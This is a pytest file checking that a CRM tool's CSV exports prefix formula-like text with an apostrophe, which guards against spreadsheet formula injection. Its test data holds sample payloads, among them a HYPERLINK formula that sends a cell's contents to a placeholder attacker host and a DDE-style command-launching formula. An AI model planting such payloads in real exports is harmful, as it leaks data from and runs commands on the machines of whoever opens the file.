"""Every CSV export is safe to open in a spreadsheet: text never becomes a formula.

A customer's name or ref that begins like a formula (``=``, ``+``, ``-``, ``@``,
a tab or carriage return, or one of those after white space) is written with a
leading apostrophe; numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from click.testing import CliRunner

from careflow.cli.main import main
from careflow.csv_export import cell, csv_text
from tests.factories import add_customer, add_orders

AS_OF = date(2026, 11, 22)

#: (as stored, as a spreadsheet must get it)
HOSTILE = [
    ('=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'),
    ("-2+3", "'-2+3"),
    ("+41 cmd", "'+41 cmd"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\\u000d=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
    ("=cmd|'/c calc'!A0\x1b[2J", "'=cmd|'/c calc'!A0\\u001b[2J"),
]


@pytest.mark.parametrize(("value", "expected"), HOSTILE)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(value, expected):
    assert cell(value) == expected
    [row] = list(csv.reader(io.StringIO(csv_text(["name"], [[value]]), newline="")))[1:]
    assert row == [expected]


@pytest.mark.parametrize(
    ("value", "expected"),
    [(-3.5, "-3.5"), (Decimal("-12.40"), "-12.40"), ("-12.40", "-12.40"), (-7, "-7"),
     ("1e-05", "1e-05"), (None, ""), ("Zoë Müller", "Zoë Müller"), ("王芳", "王芳")],
)
def test_numbers_and_plain_text_stay_as_they_are(value, expected):
    assert cell(value) == expected


def _hostile_shop(engine):
    for cid, (name, _) in enumerate(HOSTILE, start=1):
        add_customer(engine, cid, full_name=name, external_ref=name, grade="A", owner=name)
        add_orders(engine, cid, [AS_OF - timedelta(days=d) for d in (3 * cid, 3 * cid + 40)])
    # a refund larger than the order: a negative amount, which must stay a number
    add_customer(engine, 99, full_name="Refund", external_ref="R99")
    add_orders(engine, 99, [AS_OF - timedelta(days=5)], amount="10.00")
    add_orders(engine, 99, [AS_OF - timedelta(days=4)], amount="-13.50")


def _cli(*args) -> str:
    out = CliRunner().invoke(main, [*args, "--as-of", AS_OF.isoformat()])
    assert out.exit_code == 0, out.output
    return out.output


def _table(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _expected_cells(rows: list[dict], column: str) -> None:
    got = {r[column] for r in rows}
    for value, expected in HOSTILE:
        assert expected in got, (value, got)
        assert value not in got or value == expected


def test_segment_list_csv(engine):
    _hostile_shop(engine)
    rows = _table(_cli("segment", "list", "pyramid", "--format", "csv"))
    _expected_cells(rows, "name")
    _expected_cells(rows, "ref")
    [refund] = [r for r in rows if r["ref"] == "R99"]
    assert refund["monetary"] == "-3.50"  # a negative amount stays a number


def test_report_overdue_csv(engine):
    _hostile_shop(engine)
    rows = _table(_cli("report", "overdue", "--format", "csv"))
    _expected_cells(rows, "name")
    _expected_cells(rows, "ref")
    _expected_cells(rows, "owner")


def test_report_pyramid_csv_files(engine, tmp_path):
    _hostile_shop(engine)
    _cli("report", "pyramid", "--format", "csv", "--output", str(tmp_path / "p"))
    with open(tmp_path / "p" / "customers.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    _expected_cells(rows, "ref")
    [refund] = [r for r in rows if r["ref"] == "R99"]
    assert float(refund["monetary"]) == -3.5
